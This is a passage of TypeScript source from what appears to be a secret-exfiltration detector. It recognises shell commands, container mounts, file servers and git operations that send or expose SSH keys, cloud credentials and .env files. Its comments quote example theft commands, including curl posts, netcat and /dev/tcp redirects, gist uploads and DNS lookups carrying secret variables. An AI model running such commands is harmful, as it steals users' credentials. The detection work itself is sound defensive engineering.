  if (isNetworkClient(v)) for (const r of v.cmd.redirects) if (r.op === "<" || r.op === "0<") out.push(r.target);
  if (n === "gh" && has(v, "gist", "release")) out.push(...v.a.filter((x) => !x.startsWith("-")));
  if (n === "lftp" || n === "sftp" || n === "ftp" || n === "smbclient")
    for (const x of v.a) {
      const put = /\bm?put\s+(\S+)/.exec(x);
      if (put) out.push(put[1]!);
    }
  return out;
}

// --- The sends --------------------------------------------------------------------------------------

export interface SentSecret {
  level: "high" | "medium";
  detail: string;
}

const shortPath = (s: string) => (s.length > 60 ? `${s.slice(0, 59)}…` : s);

/**
 * How this command sends local secrets off the machine, one hit per way, or none. `laterSink`: a
 * later stage of its pipeline is a network client (`cat ~/.ssh/id_rsa | base64 | curl -d @- …`).
 */
export function sentSecrets(v: View, laterSink: boolean, vars: ReadonlyMap<string, string>): SentSecret[] {
  const hits: SentSecret[] = [];
  const n = v.name;
  const high = (detail: string) => hits.push({ level: "high", detail });
  // 1. files named as what a request sends
  const files = n === "curl" ? curlSentFiles(v) : otherSentFiles(v);
  for (const f of files) {
    const found = namedCredential(expand(f, vars));
    if (found) high(`${n} sends ${found.what} (${shortPath(f)}) over the network`);
  }
  // `gh gist create ~/.aws/credentials`, `gh release upload v1 ~/.ssh/id_rsa`
  if (n === "gh" && has(v, "gist", "release")) {
    const found = v.a.filter((x) => !x.startsWith("-")).map((x) => namedCredential(expand(x, vars)))[0] ?? null;
    const named = found ?? v.a.map((x) => namedCredential(expand(x, vars))).find((x) => x !== null);
    if (named) high(`gh uploads ${named.what} (${shortPath(named.path)}) to GitHub`);
  }
  // `find ~/.ssh -name 'id_*' -exec curl -F f=@{} … \;`
  if (n === "find") {
    const k = v.a.findIndex((x) => /^-(exec|execdir|ok)$/.test(x));
    const found =
      k > 0
        ? v.a
            .slice(0, k)
            .map((x) => namedCredential(expand(x, vars)))
            .find((x) => x !== null)
        : null;
    if (found && FETCHER_OR_SOCKET.test(baseName(v.a[k + 1] ?? "")))
      high(`find sends ${found.what} (${shortPath(found.path)}) with ${baseName(v.a[k + 1]!)}`);
  }
  // 2. copied to a remote place
  const copier = COPIERS[n];
  if (copier && (n !== "aws" || has(v, "s3")) && (n !== "gsutil" || has(v, "cp", "rsync", "mv"))) {
    const places: string[] = [];
    for (let i = 0; i < v.a.length; i++) {
      const x = v.a[i]!;
      if (copier.valueOptions.has(x)) i++;
      else if (!x.startsWith("-")) places.push(x);
    }
    // the last place is the destination: `scp host:/tmp/k ~/.ssh/id_rsa` fetches a key, it sends none
    const destination = places[places.length - 1];
    const local = places.slice(0, -1).find((p) => !REMOTE_PLACE.test(p) && credentialStore(expand(p, vars)));
    const what = local && credentialStore(expand(local, vars));
    if (destination && REMOTE_PLACE.test(destination) && what) {
      const detail = `${n} copies ${what} (${shortPath(local!)}) to ${shortPath(destination)}`;
      // deploying an app's .env to its own server is a common step: medium, the reader checks the host
      if (what === ENV_FILE) hits.push({ level: "medium", detail: `${detail}: check the host is yours` });
      else high(detail);
    }
  }
  // 3. a transfer client told to put one (`lftp -e "put ~/.ssh/id_rsa"`, `smbclient … -c "put …"`), socat given one as an address (`FILE:…`)
  if (n === "lftp" || n === "sftp" || n === "ftp" || n === "smbclient" || n === "socat") {
    for (const x of v.a) {
      const path = n === "socat" ? (x.startsWith("-") ? null : x) : (/\bm?put\s+(\S+)/.exec(x)?.[1] ?? null);
      const found = path === null ? null : namedCredential(expand(path, vars));
      if (found) {
        high(`${n} sends ${found.what} (${shortPath(found.path)}) over the network`);
        break;
      }
    }
  }
  // 4. stdin from a credential store into a network client (`nc host 4444 < ~/.ssh/id_rsa`, `sftp h <<< "put …"`)
  if (isNetworkClient(v)) {
    for (const r of v.cmd.redirects) {
      if (r.op !== "<" && r.op !== "<<<" && r.op !== "0<") continue;
      const target = expand(r.target, vars);
      const what = r.op === "<<<" ? null : credentialStore(target);
      const found = r.op === "<<<" ? namedCredential(target) : what && { path: r.target, what };
      if (found) high(`${n} sends ${found.what} (${shortPath(found.path)}) from its standard input over the network`);
    }
  }
  // 5. printed onto a network socket (`cat ~/.ssh/id_rsa > /dev/tcp/host/port`)
  const printed = printedSecret(v, true, vars);
  if (printed && v.cmd.redirects.some((r) => />/.test(r.op) && /^\/dev\/(tcp|udp)\//.test(r.target)))
    high(`writes ${printed} to a network socket (/dev/tcp)`);
  // 6. printed into a pipeline that ends in a network client (`… | base64 | curl -d @- …`); a path
  // echoed into one is what it sends (`echo "put ~/.ssh/id_rsa" | sftp h`, `echo ~/.ssh/id_rsa | xargs -I{} curl -F f=@{} …`)
  // (the path alone or after put: `IdentityFile ~/.ssh/deploy` echoed into a config is not a send)
  const echoedPath = v.a.join(" ").trim();
  const put =
    laterSink && (n === "echo" || n === "printf") && /^(m?put\s+)?\S+$/.test(echoedPath) ? namedCredential(expand(echoedPath, vars)) : null;
  if (laterSink && (printed || put))
    high(`pipes ${printed ?? `${put!.what} (${shortPath(put!.path)})`} into a command that sends it over the network`);
  // 7. a request whose URL, body or arguments are a substitution that prints secrets (`-d "$(cat ~/.aws/credentials)"`)
  if (isNetworkClient(v) || POWERSHELL_WEB.has(n)) {
    for (const w of v.args) {
      const found = substitutedSecret(w) ?? assignedSecret(w.text, vars);
      if (found) {
        high(`${n} sends ${found} over the network (through a command substitution)`);
        break;
      }
    }
    // PowerShell reads files inside expressions too: -Body ([IO.File]::ReadAllText("$HOME\.ssh\id_rsa"))
    if (POWERSHELL_WEB.has(n) && !hits.length) {
      const k = v.a.findIndex((x) => /^-(body|form)$/i.test(x));
      const found = k >= 0 ? v.a.slice(k + 1, k + 2).map(namedCredential)[0] : null;
      if (found) high(`${n} sends ${found.what} (${shortPath(found.path)}) as its request body`);
    }
  }
  // 8. a secret variable in a URL or body
  const variable = secretVariableSent(v);
  if (variable) hits.push(variable);
  // … or in a name looked up (`dig $AWS_SECRET_ACCESS_KEY.x.example`): the name server of that domain receives it
  if (RESOLVERS.has(n) && !hits.length)
    for (const x of v.a) {
      if (x.startsWith("-") || !x.includes(".")) continue;
      SECRET_VARIABLE_REF.lastIndex = 0;
      const name = [...x.matchAll(SECRET_VARIABLE_REF)].map((m) => m[1] ?? m[2]!).find((name) => !namesAPlace(name));
      if (name) {
        high(`${n} looks up a name holding $${name} (${shortPath(x)}): the name server of that domain receives it (DNS exfiltration)`);
        break;
      }
    }
  // 9. inline code that reads a key or the environment and posts it (python -c "requests.post(…, open('~/.ssh/id_rsa'))")
  if (isInterpreterName(n)) {
    const code = inlineCode(v);
    if (code !== null && codeSendsSecrets(code)) high(`${n} runs inline code that reads local secrets and sends them over the network`);
  }
  return hits;
}

/** A bare `env` as a command view (`env`, `env -0`): it prints the environment as printenv does. */
export function bareEnvView(cmd: SimpleCommand): View | null {
  // names are case-sensitive here: a Dockerfile's `ENV A=1` is not env
  if (!isBareEnv(cmd) || !/(^|\/)env$/.test(cmd.words.find((w) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(w.text))?.text ?? "")) return null;
  const args = cmd.words.filter((w) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(w.text)).slice(1);
  return { name: "env", args, a: args.map((w) => w.text), sudo: false, env: {}, cmd };
}

// --- Secrets exposed without a send ------------------------------------------------------------

/** `/`, a home directory in any form, or a credential store: what serving or mounting it hands out, or null. */
export function sensitiveDirectory(dir: string): string | null {
  const d = dir.replace(/^["']|["']$/g, "").replace(/\\/g, "/");
  if (/^\/+\.?$/.test(d)) return "the whole file system (/)";
  const home = d.replace(/\/+\.?$/, "");
  if (/^(~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|\/root|\/home\/[^/]+|\/Users\/[^/]+|[a-z]:\/Users\/[^/]+)$/i.test(home))
    return `your home directory (${short(dir)})`;
  const store = credentialStore(home);
  return store ? `${store} (${short(dir)})` : null;
}
const short = (s: string) => shortPath(s);

/** The directory a static file server serves and the address it listens on (null: its defaults), or null when the command is not one. */
function fileServer(v: View): { dir: string | null; bind: string | null; port: string | null } | null {
  if (!SERVER_PROGRAM.test(v.name)) return null;
  const a = v.a;
  const optionValue = (...names: string[]) => {
    for (let i = 0; i < a.length; i++) {
      const x = a[i]!;
      for (const n of names) {
        if (x === n) return a[i + 1] ?? null;
        if (n.startsWith("--") && x.startsWith(`${n}=`)) return x.slice(n.length + 1);
      }
    }
    return null;
  };
  if (/^python[\d.]*$/.test(v.name)) {
    const k = a.findIndex((x) => x === "-m" || /^-m(http\.server|SimpleHTTPServer)$/.test(x));
    const module = k < 0 ? "" : a[k] === "-m" ? (a[k + 1] ?? "") : a[k]!.slice(2);
    if (module !== "http.server" && module !== "SimpleHTTPServer") return null;
    const rest = a.slice(a[k] === "-m" ? k + 2 : k + 1);
    const port = rest.find((x, i) => /^\d+$/.test(x) && !/^-(b|d)$|^--(bind|directory)$/.test(rest[i - 1] ?? "")) ?? null;
    return { dir: optionValue("-d", "--directory"), bind: optionValue("-b", "--bind"), port };
  }
  if (v.name === "php") {
    const at = optionValue("-S");
    if (at === null) return null;
    const m = /^(.*):(\d+)$/.exec(at);
    return { dir: optionValue("-t"), bind: m ? m[1]! : at, port: m ? m[2]! : null };
  }
  // http-server [path] [-a address], run itself or through npx/bunx/pnpm dlx
  const k = v.name === "http-server" ? -1 : a.findIndex((x) => x === "http-server" || /^http-server@/.test(x));
  if (v.name === "http-server" || (k >= 0 && /^(npx|bunx|pnpx|pnpm|yarn|npm)$/.test(v.name))) {
    const rest = a.slice(k + 1);
    const dir = rest.find((x, i) => !x.startsWith("-") && !/^-(a|p|c|e|s|S|C|K|P)$/.test(rest[i - 1] ?? "")) ?? null;
    const bind = rest.includes("-a") ? (rest[rest.indexOf("-a") + 1] ?? null) : null;
    return { dir, bind, port: rest.includes("-p") ? (rest[rest.indexOf("-p") + 1] ?? null) : null };
  }
  // busybox httpd -h DIR -p [IP:]PORT (the view skips busybox)
  if (v.name === "httpd" && has(v, "-h", "-p", "-f")) {
    const p = optionValue("-p");
    const m = p === null ? null : /^(.*):(\d+)$/.exec(p);
    return { dir: optionValue("-h"), bind: m ? m[1]! : null, port: m ? m[2]! : p };
  }
  // ruby -run -e httpd DIR -p PORT
  if (v.name === "ruby" && has(v, "-run")) {
    const e = a.findIndex((x) => x === "-ehttpd" || (x === "-e" && a[a.indexOf(x) + 1] === "httpd"));
    if (e < 0) return null;
    const rest = a.slice(a[e] === "-e" ? e + 2 : e + 1);
    const dir = rest.find((x, i) => !x.startsWith("-") && !/^-(p|b|-port|-bind-address)$/.test(rest[i - 1] ?? "")) ?? null;
    return { dir, bind: optionValue("-b", "--bind-address"), port: optionValue("-p", "--port") };
  }
  return null;
}
/** The programs fileServer reads (python's http.server, php -S, http-server directly or through a package runner, busybox httpd, ruby -run). */
const SERVER_PROGRAM = /^(python[\d.]*|php|http-server|npx|bunx|pnpx|pnpm|yarn|npm|httpd|ruby)$/;
const LOOPBACK = /^(localhost|127(\.\d+){3}|::1|\[::1\])$/i;

/** Images whose publisher is the one the mounted credentials belong to, or Docker's official library (no namespace). */
const TRUSTED_IMAGE =
  /^(?:docker\.io\/)?(?:library\/)?[a-z0-9._-]+(?::[\w.-]+)?(?:@sha256:[0-9a-f]+)?$|^(?:docker\.io\/)?(?:amazon|google|bitnami|hashicorp|docker|mcr\.microsoft\.com)\/|^public\.ecr\.aws\/(?:aws-cli|amazonlinux|docker\/library)\/|^mcr\.microsoft\.com\/|^gcr\.io\/google\.com\/cloudsdktool\/|^gcr\.io\/google-containers\//i;
const DOCKER_VALUE_OPTIONS =
  /^(-[vewpulhm]|--(volume|mount|env|env-file|workdir|publish|user|label|hostname|memory|name|network|net|entrypoint|platform|device|add-host|cap-add|cap-drop|cpus|restart|runtime|security-opt|tmpfs|ulimit|dns|log-driver|log-opt|pull|ipc|pid|shm-size|gpus|volumes-from|link|expose|group-add|health-cmd|cidfile|userns|uts|cgroupns|stop-signal|stop-timeout|label-file|mac-address|ip|ip6|isolation|memory-swap|cpu-shares|cpuset-cpus|init-path|annotation|attach|-a))$/;

/** The credential stores (or home, or /) a `docker run`/`podman run` mounts, and its image. */
function containerMounts(v: View): { mounts: { src: string; what: string }[]; image: string | null } | null {
  if (!/^(docker|podman|nerdctl|finch)$/.test(v.name)) return null;
  let a = v.a;
  if (a[0] === "container") a = a.slice(1);
  if (a[0] !== "run" && a[0] !== "create") return null;
  const mounts: { src: string; what: string }[] = [];
  let image: string | null = null;
  for (let i = 1; i < a.length; i++) {
    const x = a[i]!;
    if (!x.startsWith("-")) {
      image = x;
      break;
    }
    const eq = /^(--[\w-]+)=(.*)$/s.exec(x);
    const opt = eq ? eq[1]! : x;
    const value = eq ? eq[2]! : DOCKER_VALUE_OPTIONS.test(x) ? a[++i] : undefined;
    if (value === undefined) continue;
    let src: string | null = null;
    if (opt === "-v" || opt === "--volume") src = /^((?:[a-z]:)?[^:]+):/i.exec(value)?.[1] ?? null;
    else if (opt === "--mount") src = /(?:^|,)(?:source|src)=([^,]+)/.exec(value)?.[1] ?? null;
    const what = src === null ? null : DOCKER_SOCKET.test(src) ? DOCKER_SOCKET_WHAT : sensitiveDirectory(src);
    if (what) mounts.push({ src: src!, what });
  }
  return { mounts, image };
}

/**
 * How this command hands local secrets to others without sending them itself: a file server over
 * the home directory, `/` or a credential store listening beyond this machine (anyone who can reach
 * the port reads `~/.ssh/id_rsa`: high; on a loopback address: nothing), a credential store, home or
 * `/` mounted into a container whose image is not from the credential's publisher or Docker's
 * official library (the image's code reads them: high), a credential store added to git (the next
 * push publishes it: medium; high when the trail pushes a key, or anything added with -f: see `stagedStore`). `cwd`: the directory
 * an earlier `cd` of the same script or trail moved to, or null.
 */
export function exposedSecrets(v: View, cwd: string | null): SentSecret[] {
  const hits: SentSecret[] = [];
  const server = fileServer(v);
  if (server && (server.bind === null || server.bind === "" || !LOOPBACK.test(server.bind))) {
    const dir = server.dir ?? cwd;
    const what = dir === null ? null : sensitiveDirectory(dir);
    const where = server.bind && !/^(0\.0\.0\.0|::|\[::\]|\*)$/.test(server.bind) ? `on ${server.bind}` : "on every network interface";
    if (what)
      hits.push({
        level: "high",
        detail: `${v.name} serves ${what} ${where}${server.port ? ` (port ${server.port})` : ""}: anyone who can reach it downloads the SSH keys and credentials in it`,
      });
  }
  const container = containerMounts(v);
  const secrets = container?.mounts.filter((m) => m.what !== DOCKER_SOCKET_WHAT) ?? [];
  if (container && secrets.length > 0 && container.image !== null && !container.image.includes("$") && !TRUSTED_IMAGE.test(container.image))
    hits.push({
      level: "high",
      detail: `${v.name} mounts ${secrets[0]!.what} into a container of ${short(container.image)}, an image not from Docker's official library or the credentials' own publisher: its code can read and send them`,
    });
  const committed = committedSecret(v);
  if (committed)
    hits.push({ level: "medium", detail: `git add stages ${committed}: a commit and push publishes it with the repository's history` });
  return hits;
}

/** The Docker daemon's socket: whoever can write to it runs containers as root on this machine. */
export const DOCKER_SOCKET = /^(?:\/var)?\/run\/docker\.sock$|^\/\/\.\/pipe\/docker_engine$/;
const DOCKER_SOCKET_WHAT = "the Docker socket";

/** The image a `docker run -v /var/run/docker.sock:…` hands the host's Docker to, when not Docker's official library or a known publisher's; null otherwise. */
export function dockerSocketMountedInto(v: View): string | null {
  const container = containerMounts(v);
  if (!container?.image || container.image.includes("$") || TRUSTED_IMAGE.test(container.image)) return null;
  return container.mounts.some((m) => m.what === DOCKER_SOCKET_WHAT) ? container.image : null;
}

/** The host path a compose or Kubernetes volume line mounts (`- ~/.ssh:/root/.ssh:ro`, `source: ~/.aws`, hostPath's `path: /`), or null. */
function yamlMountSource(line: string, key: string): string | null {
  const unquote = (x: string) => x.trim().replace(/^["']|["']$/g, "");
  // short syntax: `- SRC:DST[:ro]`, `- "SRC:DST"` (a host path: /, ~, ., $HOME; a named volume is not one)
  const item = /^\s*-\s+["']?((?:[/~.]|\$\{?HOME\b)[^:"'\s]*):/.exec(line);
  if (item && key === "volumes") return item[1]!;
  const field = /^\s*(?:-\s+)?(source|src|path)\s*:\s*(\S.*?)\s*(?:#.*)?$/.exec(line);
  if (field && (field[1] !== "path" || key === "hostPath")) return unquote(field[2]!);
  return null;
}

/**
 * What a docker-compose file or a Kubernetes manifest a patch adds mounts from the host into a
 * container whose image is not from Docker's official library or the credentials' publisher: an
 * SSH, AWS or other credential store, the home directory or `/` (the image's code reads them:
 * high, as `docker run -v ~/.aws:…` is), or the Docker socket (the image controls the host's Docker,
 * root on it: medium, since tools built on it mount it too: Portainer, Watchtower, CI runners).
 * `lines`: the file's lines the patch leaves (added and unchanged); `added`: which of them it adds.
 * A service without an image (`build: .`) is the project's own and is not flagged.
 */
export function yamlMounts(lines: readonly string[], added: readonly boolean[]): (SentSecret & { socket: boolean })[] {
  const hits: (SentSecret & { socket: boolean })[] = [];
  const imagesOf = new Map<number, string | undefined>(); // by the block's first line: many mounts share one
  const n = Math.min(lines.length, 4000);
  const indent = (l: string) => /^\s*/.exec(l)![0].length;
  const isItem = (l: string) => /^\s*-(\s|$)/.test(l);
  const keyOf = (l: string) => /^\s*(?:-\s+)?([\w.-]+)\s*:\s*(?:#.*)?$/.exec(l)?.[1] ?? null;
  // parents[i]: the line line i is nested under (a list item may sit at its key's own indentation), or -1; one pass with a stack
  const parents = new Int32Array(n).fill(-1);
  const stack: { at: number; indent: number; item: boolean }[] = [];
  for (let i = 0; i < n; i++) {
    const l = lines[i]!;
    if (/^---/.test(l)) stack.length = 0;
    if (l.trim() === "" || /^\s*#/.test(l) || /^---/.test(l)) continue;
    const here = { at: i, indent: indent(l), item: isItem(l) };
    while (stack.length > 0) {
      const top = stack[stack.length - 1]!;
      if (top.indent < here.indent || (top.indent === here.indent && here.item && !top.item)) break;
      stack.pop();
    }
    parents[i] = stack.length > 0 ? stack[stack.length - 1]!.at : -1;
    stack.push(here);
  }
  const parent = (i: number) => parents[i]!;
  for (let i = 0; i < n; i++) {
    if (!added[i] || !/[:/~]/.test(lines[i]!)) continue;
    // the key the line is under (`volumes`, `hostPath`, through a `- type: bind` item)
    let k = parent(i);
    while (k >= 0 && keyOf(lines[k]!) === null) k = parent(k);
    const key = k >= 0 ? keyOf(lines[k]!) : null;
    if (key === null) continue;
    const src = yamlMountSource(lines[i]!, key);
    if (src === null) continue;
    const socket = DOCKER_SOCKET.test(src);
    const what = socket ? DOCKER_SOCKET_WHAT : sensitiveDirectory(src);
    if (!what) continue;
    // the `volumes:` key, then the block it belongs to (a compose service, a pod spec) and the images in it
    while (k >= 0 && keyOf(lines[k]!) !== "volumes") k = parent(k);
    const owner = k >= 0 ? parent(k) : -1;
    if (owner < 0) continue;
    if (!imagesOf.has(owner)) imagesOf.set(owner, strangerImage(lines, owner, n));
    const stranger = imagesOf.get(owner);
    if (stranger === undefined) continue;
    hits.push(
      socket
        ? {
            socket,
            level: "medium",
            detail: `mounts the Docker socket (${short(src)}) into a container of ${short(stranger)}: the image controls this machine's Docker, which is root on it; check it is one you trust`,
          }
        : {
            socket,
            level: "high",
            detail: `mounts ${what} into a container of ${short(stranger)}, an image not from Docker's official library or the credentials' own publisher: its code can read and send them`,
          },
    );
    if (hits.length >= 8) break;
  }
  return hits;
}

/** The first image in the YAML block that starts at line `owner` not from Docker's official library or a credential publisher, or undefined. */
function strangerImage(lines: readonly string[], owner: number, n: number): string | undefined {
  const own = /^\s*/.exec(lines[owner]!)![0].length;
  for (let j = owner + 1; j < n && !/^---/.test(lines[j]!); j++) {
    if (lines[j]!.trim() !== "" && /^\s*/.exec(lines[j]!)![0].length <= own) break;
    const m = /^\s*(?:-\s+)?image\s*:\s*["']?([^"'\s#]+)/.exec(lines[j]!);
    if (m && !m[1]!.includes("$") && !TRUSTED_IMAGE.test(m[1]!)) return m[1]!;
  }
  return undefined;
}

/** The credential store a `git add` stages (`git add -f ~/.ssh/id_rsa`, `git add .env`), or null. */
export function committedSecret(v: View): string | null {
  return stagedStore(v)?.what ?? null;
}

/**
 * What a `git add` stages that holds secrets, and whether a push of it is surely a leak: a key or
 * credential file, or anything added with `-f` past .gitignore (`sure`); an app's `.env` added plainly
 * may be the defaults a framework commits (Next.js, Vite), so its push is for the reader to check.
 */
export function stagedStore(v: View): { what: string; sure: boolean } | null {
  const k = gitSubcommand(v);
  if (k < 0 || v.a[k] !== "add") return null;
  const forced = v.a.slice(k + 1).some((x) => x === "-f" || x === "--force" || /^-[a-zA-Z]*f[a-zA-Z]*$/.test(x));
  for (const x of v.a.slice(k + 1)) {
    if (x.startsWith("-") || /(^|\/)\.envrc$/.test(x)) continue; // direnv's .envrc is often committed on purpose
    const found = namedCredential(x);
    if (found) return { what: `${found.what} (${shortPath(found.path)})`, sure: forced || found.what !== ENV_FILE };
  }
  return null;
}

/**
 * Does this `git add` stage every untracked file of the work tree (`git add .`, `-A`, `--all`, `:/`,
 * `*`)? `git add -u` and `git commit -a` stage changes to tracked files only: a file the trail just
 * created is not among them.
 */
export function stagesUntracked(v: View): boolean {
  const k = gitSubcommand(v);
  if (k < 0 || v.a[k] !== "add") return false;
  const rest = v.a.slice(k + 1);
  if (rest.some((x) => x === "-u" || x === "--update" || /^-[a-zA-Z]*u/.test(x))) return false;
  return rest.some((x) => x === "." || x === "./" || x === "-A" || x === "--all" || x === ":/" || x === "*" || /^-[a-zA-Z]*A/.test(x));
}

/** A file a trail writes in the project that holds secrets: a `.env`, a registry or credentials file, a private key. What it holds, or null. */
export function projectSecretFile(path: string): string | null {
  if (/^([/~$%]|[a-z]:[\\/])/i.test(path) || /(^|\/)\.envrc$/.test(path)) return null; // outside the work tree; direnv's .envrc is committed on purpose
  return credentialStore(path) ?? (/\.(key|p12|pfx)$|(^|\/)[^/]*(key|private)[^/]*\.pem$/i.test(path) ? "a private key" : null);
}

/** Does a .gitignore line of the trail cover this file (`.env`, `/.env`, `.env*`, `*.pem`, `secrets/`)? */
export function gitIgnores(patterns: readonly string[], file: string): boolean {
  const path = file.replace(/^\.\//, "");
  const base = basenameOf(path);
  return patterns.some((raw) => {
    const p = raw.trim().replace(/^\//, "").replace(/\/$/, "");
    if (p === "" || p.startsWith("#") || p.startsWith("!") || p.length > 100) return false;
    if (p === path || p === base || path.startsWith(`${p}/`)) return true;
    if (!/[*?]/.test(p)) return false;
    const re = new RegExp(
      `^${p
        .replace(/[.+^${}()|[\]\\]/g, "\\$&")
        .replace(/\*/g, "[^/]*")
        .replace(/\?/g, "[^/]")}$`,
    );
    return re.test(base) || re.test(path);
  });
}

/** The remote a `git remote add NAME URL` / `git remote set-url NAME URL` points elsewhere, or null. */
export function addedRemote(v: View): { name: string; url: string } | null {
  const k = gitSubcommand(v);
  if (k < 0 || v.a[k] !== "remote" || (v.a[k + 1] !== "add" && v.a[k + 1] !== "set-url")) return null;
  const [name, url] = v.a.slice(k + 2).filter((x) => !x.startsWith("-"));
  return name && url ? { name, url } : null;
}

/** What a `git push --mirror` / `--all` sends everything to: its remote's name or URL, and which option; null for any other push. */
export function pushesEverything(v: View): { remote: string; how: string } | null {
  const k = gitSubcommand(v);
  if (k < 0 || v.a[k] !== "push") return null;
  const rest = v.a.slice(k + 1);
  const how = rest.find((x) => x === "--mirror" || x === "--all");
  const remote = rest.find((x) => !x.startsWith("-"));
  return how && remote ? { remote, how } : null;
}

/** Does this command push commits (`git push …`)? */
export const pushesCommits = (v: View) => {
  const k = gitSubcommand(v);
  return k >= 0 && v.a[k] === "push";
};

/** Where a git command's subcommand is among its arguments (after `-C dir`, `-c k=v`, …), or -1. */
export function gitSubcommand(v: View): number {
  if (v.name !== "git") return -1;
  let i = 0;
  while (i < v.a.length && v.a[i]!.startsWith("-")) i += /^-[Cc]$|^--(git-dir|work-tree|namespace)$/.test(v.a[i]!) ? 2 : 1;
  return i < v.a.length ? i : -1;
}

/** The directory a `cd`/`pushd`/`Set-Location` moves to (`~` for a bare cd), or null when the command is not one. */
export function changedDirectory(v: View): string | null {
  if (!/^(cd|pushd|chdir|set-location|sl)$/.test(v.name)) return null;
  const target = v.a.find((x) => !x.startsWith("-"));
  return target ?? "~";
}
